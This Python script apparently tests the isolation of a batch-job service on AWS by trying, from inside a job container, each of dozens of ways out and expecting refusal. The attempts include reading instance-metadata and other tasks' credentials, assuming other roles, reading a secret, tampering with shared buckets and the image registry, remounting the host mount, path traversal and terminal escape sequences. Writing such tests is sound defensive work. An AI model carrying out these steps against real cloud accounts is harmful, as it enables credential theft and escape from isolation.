"""Ways out of an item on AWS; each needs one thing only that it must not get.

    out_of_aws.py WAY FOLDER FACTS

FACTS is JSON: what anyone in the team knows of the stack.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import sys
import time
import urllib.parse
import urllib.request
from functools import partial

import hostile

FACTS = json.loads(sys.argv[3])
HOST = "/tidemill"
METADATA, TASKS = "http://169.254.169.254", "http://169.254.170.2"
MACHINES = ["/opt/tidemill/host.py", "/etc/ecs/ecs.config", "/var/lib/tidemill/worker"]
WORKER, REGION = FACTS["worker"], FACTS["region"]


def aws(service: str, method: str, path: str, body: str = "", **headers: str) -> str:
    """A call with the rights of the job's role, which is found as every SDK finds it."""
    from botocore.auth import S3SigV4Auth, SigV4Auth  # noqa: PLC0415 - few ways need them
    from botocore.awsrequest import AWSRequest  # noqa: PLC0415
    from botocore.credentials import Credentials  # noqa: PLC0415

    answer = urllib.request.urlopen(TASKS + os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"], timeout=30)
    given = json.load(answer)
    login = Credentials(given["AccessKeyId"], given["SecretAccessKey"], given["Token"])
    told = {key.replace("_", "-"): value for key, value in headers.items()}
    request = AWSRequest(method, os.environ["AWS_ENDPOINT_URL"] + path, data=body.encode(), headers=told)
    (S3SigV4Auth if service == "s3" else SigV4Auth)(login, service, REGION).add_auth(request)
    sent = urllib.request.Request(str(request.url), body.encode() or None, dict(request.headers), method=method)
    return hostile.asked(sent)


def query(service: str, version: str, action: str, **values: str) -> str:
    form = urllib.parse.urlencode({"Action": action, "Version": version, **values})
    return aws(service, "POST", "/", form, Content_Type="application/x-www-form-urlencoded")


def target(service: str, operation: str, **values: object) -> str:
    kind = {"Content_Type": "application/x-amz-json-1.1", "X_Amz_Target": operation}
    return aws(service, "POST", "/", json.dumps(values), **kind)


def batch(operation: str, **values: object) -> str:
    return aws("batch", "POST", f"/v1/{operation}", json.dumps(values), Content_Type="application/json")


def put(key: str, bucket: str = FACTS["bucket"]) -> str:
    return aws("s3", "PUT", f"/{bucket}/{key}", "owned")


def get(key: str, bucket: str = FACTS["bucket"]) -> str:
    return aws("s3", "GET", f"/{bucket}/{key}")


def become(role: str) -> str:
    return query("sts", "2011-06-15", "AssumeRole", RoleArn=FACTS[role], RoleSessionName="x")


def ask(line: str) -> str:
    """The answer to a line on the socket of the machine's service; it closes while this container holds others."""
    said = b""
    while not said:
        time.sleep(0.05)
        with socket.socket(socket.AF_UNIX) as caller, contextlib.suppress(ConnectionError):
            caller.settimeout(60)
            caller.connect(f"{HOST}/fetch.sock")
            caller.sendall(line.encode() + b"\n")
            said = caller.recv(600)
    if said != b"ok":
        raise PermissionError(said.decode())
    return said.decode()


def crowd() -> str:
    """Hold connections until nobody else gets one."""
    held = []
    for _ in range(40):
        caller = socket.socket(socket.AF_UNIX)
        caller.connect(f"{HOST}/fetch.sock")
        caller.settimeout(1)
        held.append(caller)
    open_ones = 0
    for caller in held:
        try:
            open_ones += caller.recv(10) != b""
        except TimeoutError:
            open_ones += 1
        if open_ones > 2:
            return f"{open_ones} of 40 connections"
    return ""


def replace_socket() -> str:
    os.unlink(f"{HOST}/fetch.sock")
    return "gone"


def metadata() -> str:
    seconds = {"X-aws-ec2-metadata-token-ttl-seconds": "60"}
    request = urllib.request.Request(f"{METADATA}/latest/api/token", headers=seconds, method="PUT")
    return hostile.asked(request, timeout=3)


def path_out_of_the_folder() -> str:
    """An output that a fetch on the submitter's laptop would write elsewhere. Storing it is allowed."""
    key = os.environ["TIDEMILL_OUTPUT_URI"].partition("://")[2].partition("/")[2]
    put(urllib.parse.quote(f"{key}../../../../owned"))
    raise PermissionError("stored; a fetch refuses it")


def escape_sequence() -> str:
    """Orders to the terminal of who reads the log."""
    print("\x1b]0;owned\x07\x1b[2J owned-by-a-line", flush=True)
    raise PermissionError("printed; logs show it as text")


DIGEST, OTHER = WORKER.rpartition("@")[2], "sha256:" + 64 * "b"
HOSTNAME = WORKER.partition("/")[0]
PRIVILEGED = {"image": "x", "privileged": True, "resourceRequirements": [], "command": ["id"]}

hostile.run(
    {
        # The machine's service.
        "a stranger's registry": lambda: ask(f"123456789012.dkr.ecr.us-west-2.evil.example/x@{OTHER}"),
        "another account's registry": lambda: ask(WORKER.replace(HOSTNAME[:12], "999999999999")),
        "another region's registry": lambda: ask(WORKER.replace(REGION, "eu-north-1")),
        "an image that is no worker": lambda: ask(FACTS["image"]),
        "a path for a digest": lambda: ask(f"{WORKER.partition('@')[0]}@sha256:../../../../../etc/cron.d/owned"),
        "a worker that nobody pushed": lambda: ask(f"{WORKER.partition('@')[0]}@{OTHER}"),
        "a line without an end": lambda: ask("x" * 100_000),
        "all connections": crowd,
        "a socket of one's own": replace_socket,
        # What the machine shows its containers.
        "the launcher of the next worker": lambda: hostile.write(f"{HOST}/tidemill-worker"),
        "a tree for the next worker": lambda: os.mkdir(f"{HOST}/{64 * 'b'}"[:26]),
        "the tree that runs": lambda: hostile.write(f"{HOST}/{DIGEST[7:23]}/site/owned.py"),
        "a false Spot notice": lambda: hostile.write(f"{HOST}/notice"),
        "a writable mount": partial(hostile.remount, HOST),
        "a writable mount by a namespace": partial(hostile.remount_as_root_of_ones_own, HOST),
        **hostile.to_the_machine(MACHINES, ["host.py", "amazon-ecs", "dockerd"], "/var/run/ecs/ecs.sock"),
        # Credentials.
        "the machine's role": metadata,
        "another task's credentials": lambda: hostile.asked(
            urllib.request.Request(f"{TASKS}/v2/credentials/{32 * '0'}")
        ),
        "all tasks' credentials": lambda: hostile.asked(urllib.request.Request(f"{TASKS}/v2/credentials")),
        "the execution role": partial(become, "execution_role_arn"),
        "the submitters' role": partial(become, "submitter_role_arn"),
        "the machine's role by name": partial(become, "instance_role_arn"),
        "a secret": lambda: target("secretsmanager", "secretsmanager.GetSecretValue", SecretId=FACTS["secret"]),
        # Other jobs, teams and people.
        "a job of its own": lambda: batch(
            "submitjob", jobName="x", jobQueue=FACTS["queue"], jobDefinition=FACTS["definition"]
        ),
        "a privileged definition": lambda: batch(
            "registerjobdefinition", jobDefinitionName="x", type="container", containerProperties=PRIVILEGED
        ),
        "the end of another job": lambda: batch("terminatejob", jobId=os.environ["AWS_BATCH_JOB_ID"], reason="x"),
        "the worker of new machines": lambda: put("machines/cpu/worker"),
        "what clients believe": lambda: put("pipeline.json"),
        "a file that other jobs read": lambda: put("uploads/00/x"),
        "an output that others need": lambda: aws("s3", "DELETE", f"/{FACTS['bucket']}/out/x/0"),
        "another team's job": lambda: get("jobs/a/job.json", FACTS["others"]),
        "another team's store": lambda: put("jobs/a/job.json", FACTS["others"]),
        "the worker's repository": lambda: target(
            "ecr",
            "AmazonEC2ContainerRegistry_V20150921.PutImage",
            repositoryName=WORKER.partition("/")[2].partition("@")[0],
            imageManifest="{}",
        ),
        "a machine": lambda: query(
            "ec2", "2016-11-15", "RunInstances", ImageId="ami-12345678", MinCount="1", MaxCount="1"
        ),
        "a user": lambda: query("iam", "2010-05-08", "CreateUser", UserName="owned"),
        "a path on the submitter's laptop": path_out_of_the_folder,
        "the submitter's terminal": escape_sequence,
    }
)
